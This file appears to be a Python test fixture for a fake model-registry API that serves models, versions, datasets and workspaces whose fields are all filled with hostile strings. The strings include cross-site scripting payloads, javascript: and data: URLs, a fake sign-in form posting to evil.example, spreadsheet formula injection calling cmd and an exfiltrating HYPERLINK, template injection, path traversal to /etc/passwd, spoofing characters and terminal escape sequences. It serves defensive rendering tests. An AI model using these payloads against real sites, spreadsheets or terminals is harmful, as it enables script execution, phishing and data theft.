r"""What a stranger could write into a registry to hurt whoever looks at it, and a registry full of it.

Every text that can run, load or open something would set ``window.owned``, change the title to ``owned`` or ask the
host ``evil.example``, so that a test sees whether anything worked.
"""

import json
from collections.abc import Mapping, Sequence
from typing import Any, Final
from urllib.parse import unquote

from tests.harness.server import Reply, Request, refusal, reply

Json = dict[str, Any]

ADDRESS: Final = "https://evil.example/x.png"
"""The one text that a page may link to, where it shows an address."""
LONG: Final = 20_000
FAMILIES: Final[Mapping[str, tuple[str, ...]]] = {
    "scripts": (
        "<script>window.owned=1</script>",
        "</script></style></title></textarea>--><script>window.owned=1</script>",
        "<svg><script>window.owned=1</script></svg>",
        '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
        "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
        "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
        "<style>*{background:url(https://evil.example/x.png)}</style>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
        '"}]};window.owned=1;//<!--',
    ),
    "handlers": (
        "<img src=x onerror=window.owned=1>",
        "<svg onload=window.owned=1>",
        "<details open ontoggle=window.owned=1>x</details>",
        '" autofocus onfocus=window.owned=1 x="',
        "' onmouseover='window.owned=1",
    ),
    "addresses": (
        "javascript:window.owned=1",
        "JaVaScRiPt:window.owned=1//",
        "java\nscript:window.owned=1",
        "data:text/html,<script>parent.owned=1</script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>",
        "vbscript:owned",
        "file:///etc/passwd",
        "//evil.example/x.png",
        "https://user:secret@evil.example/",
        "https://evil.example\\@good.example/x.png",
        ADDRESS,
    ),
    "markdown": (
        "![beacon](https://evil.example/b.png)",
        "![beacon][1]\n\n[1]: https://evil.example/b.png",
        "[link](https://evil.example)",
        "[link](javascript:window.owned=1)",
        "<https://evil.example> www.evil.example me@evil.example",
        "``` code ~~~ `",
        "a|b\n-|-\nc|d",
        "# head\n- item\n> quote\n***",
        "**bold** _it_ ~~gone~~ [^1] <!-- --> &lt;b&gt;",
    ),
    "charts": (
        '<a href="https://evil.example/">link</a>',
        '<a href="javascript:window.owned=1">link</a>',
        "%{x} %{y} %{customdata[0]} %{fullData.name}",
        "<b>bold</b><br>line<sub>sub</sub><span style='font-size:90px'>big</span>",
    ),
    "latex": (r"$$\href{https://evil.example}{x}$$", r"$\frac{1}{2}$ \(x\) $\includegraphics{https://evil.example/x}$"),
    "directives": (":red[alarm] :blue-badge[Approved] :material/delete: :streamlit: :small[x]", ":red[a] -> <- ]] }}"),
    "templates": (
        "{{ 7 * 7 }}{% raw %}${7*7}#{7}",
        '"]\n[[policy]]\nrule = "described"\n#',
        "__proto__",
        "constructor",
    ),
    "bidirectional": (
        "\u202egpj.exe",
        "a\u202e\u2066b\u2069\u2066c",
        "\u2067\u202dabc",
        "\u200f\u061c\u200eabc",
        "التعرف على الكلام",
    ),
    "controls": (
        "a\x00b\x07c\x08d\x7fe",
        "a\r\nb\u2028c\x85d",
        "a\u200bb\ufeffc\u00add\u2060e",
        "\U000e0041\U000e007f\ufe0f\u2800",
        "Z" + "\u0301\u0335\u0489" * 40,
        " \t ",
    ),
    "formulas": (
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1+cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "\u200b=1+1",
        "x;=1+1;y",
        'x",=1+1,"y',
        "x\n=1+1",
        "x\t=1+1",
    ),
    "long": (
        "W" * LONG,
        "word " * (LONG // 5),
        "line\n" * (LONG // 5),
        "n" * 300 + "a",
        "n" * 300 + "b",
        "<" * LONG,
    ),
    "homoglyphs": ("сеr", "ｃｅｒ", "https://аlibaba.example/", "Аpproved", "l.0.0 vs 1.O.0"),
    "terminal": (
        "\x1b[2J\x1b[31mred\x1b[0m",
        "\x1b]0;owned\x07",
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b2J\x90q\x9c",
        "ok\nERROR paiview: owned\r\n\x1b[1A",
    ),
    "paths": ("../../etc/passwd", "..", 'a"; filename="x.html', "C:\\x\\..\\y?z#w%00&u=1+1", "a/b.html"),
    "impostors": (
        "Approved ",
        "version",
        "dataset",
        "metric",
        "field",
        "(no dataset)",
        "(unnamed 1)",
        "cer",
        "-created",
    ),
}
"""Families of texts; none occurs twice."""
TEXTS: Final = tuple(text for family in FAMILIES.values() for text in family)

MODEL: Final = "model-hostile"
BASELINE, OTHER, CANDIDATE = "![b](https://evil.example/b.png)" + "B" * 60, "<img src=x onerror=owned=1>", "0.9.0\u202e"
"""VersionNames of the versions that have results on every dataset; the first is Approved."""


def nested(texts: Sequence[str]) -> Json:
    """An object with every text as a key, a value, an item of a list and the value of a named pair."""
    return {
        **{text: text for text in texts},
        "list": [*texts],
        "HyperParameters": [{"Name": text, "Value": text} for text in texts],
    }


def results(factor: float) -> Json:
    """Metrics with every text as a DatasetId or Uri, as the name of a dataset and as that of a metric.

    ``factor`` moves every second number up and the others down, so that a comparison has both.
    """
    found = []
    for place, text in enumerate(TEXTS):
        value = round(0.2 * (factor if place % 2 else 1 / factor), 6)
        known = {"DatasetId": text} if place % 5 else {"Uri": text}
        found.append({"Dataset": known, "Metrics": {"cer": value, text: value, f"{text} cer": value}})
        found.append({"Dataset": {"DatasetId": f"d-{place}"}, "Metrics": {"cer": value}})
    return {"Results": found}


def version(text: str, others: Sequence[str] = (), **fields: Any) -> Json:
    """A ModelVersion with ``text`` in every field and ``others`` too wherever there is room for several."""
    texts = [*dict.fromkeys([text, *others])]
    names = (
        "VersionName VersionDescription Uri FormatType FrameworkType ApprovalStatus SourceType SourceId UserId OwnerId "
        "GmtModifiedTime"
    )
    return {
        **dict.fromkeys(names.split(), text),
        "GmtCreateTime": "2024-01-01T00:00:00Z",
        "Labels": [{"Key": one, "Value": one} for one in texts],
        "Metrics": {"Results": [{"Dataset": {"DatasetId": text, "Name": text}, "Metrics": {text: text}}], text: text},
        "Options": _json_text(texts),
        "ExtraInfo": {"CoverUris": texts, "TrainedWords": texts, "ApprovalStatus": text, **nested(texts)},
        **{
            f"{name}Spec": nested(texts)
            for name in ("Training", "Inference", "Evaluation", "Compression", "Distillation")
        },
        f"Unknown {text}": text,
        **fields,
    }


def model(text: str, **fields: Any) -> Json:
    """A Model with ``text`` in every field."""
    names = (
        "ModelId ModelName ModelDescription ModelDoc WorkspaceId OwnerId UserId Provider Accessibility Domain Task "
        "Origin ModelType GmtCreateTime GmtModifiedTime GmtLatestVersionModifiedTime"
    )
    return {
        **dict.fromkeys(names.split(), text),
        "Labels": [{"Key": text, "Value": text}],
        "Tags": [{"Key": text, "Value": text}],
        "ExtraInfo": {"CoverUris": [text], text: text},
        "LatestVersion": version(text),
        f"Unknown {text}": text,
        **fields,
    }


def versions() -> list[Json]:
    """The versions of ``MODEL``: one a text, and three that have results on a dataset of every name."""
    each = [
        version(text, GmtCreateTime=f"2024-01-01T00:{place // 60:02}:{place % 60:02}Z")
        for place, text in enumerate(TEXTS)
    ]
    measured = [
        (BASELINE, "Approved", 1.0, "2024-02-01T00:00:00Z"),
        (OTHER, "Pending", 1.2, "2024-02-02T00:00:00Z"),
        (CANDIDATE, "Pending", 1.1, "2024-02-03T00:00:00Z"),
    ]
    short = [text for text in TEXTS if len(text) < LONG]
    return each + [
        version(name, short if name == OTHER else (), ApprovalStatus=status, GmtCreateTime=created)
        | {"Metrics": results(factor)}
        | ({"VersionDescription": "\n".join(TEXTS), "Uri": ADDRESS} if name == OTHER else {})
        for name, status, factor, created in measured
    ]


def datasets() -> list[Json]:
    """A registered dataset for each text, which is its name."""
    return [
        {"DatasetId": f"d-{place}", "Name": text, "Uri": text, "WorkspaceId": text, f"Unknown {text}": text}
        for place, text in enumerate(TEXTS)
    ]


def workspaces() -> list[Json]:
    """A workspace with each text in every field."""
    names = "WorkspaceId WorkspaceName DisplayName Description Status Creator"
    return [dict.fromkeys(names.split(), text) for text in TEXTS if len(text) < LONG]


async def respond(request: Request) -> Reply:
    """Answer like PAI, page by page, out of a registry full of hostile texts."""
    match request.path.removeprefix("/api/v1/").split("/"):
        case ["models"]:
            first = model("hostile", ModelId=MODEL, WorkspaceId="7", LatestVersion=version(CANDIDATE))
            return _page(request, "Models", [first, *map(model, TEXTS)])
        case ["models", name]:
            return reply(model(unquote(name)))
        case ["models", name, "versions"]:
            found = _VERSIONS if name == MODEL else [version(unquote(name), ApprovalStatus="Pending")]
            status = request.query.get("ApprovalStatus")
            return _page(request, "Versions", [item for item in found if status in (None, item["ApprovalStatus"])])
        case ["datasets"]:
            return _page(request, "Datasets", datasets())
        case ["workspaces"]:
            return _page(request, "Workspaces", workspaces())
        case _:
            return refusal("201900002", 404)


def _page(request: Request, name: str, items: Sequence[Json]) -> Reply:
    size = int(request.query["PageSize"])
    start = (request.page - 1) * size
    return reply({name: items[start : start + size], "TotalCount": len(items)})


def _json_text(texts: Sequence[str]) -> str:
    return json.dumps(nested(texts))


_VERSIONS: Final = versions()
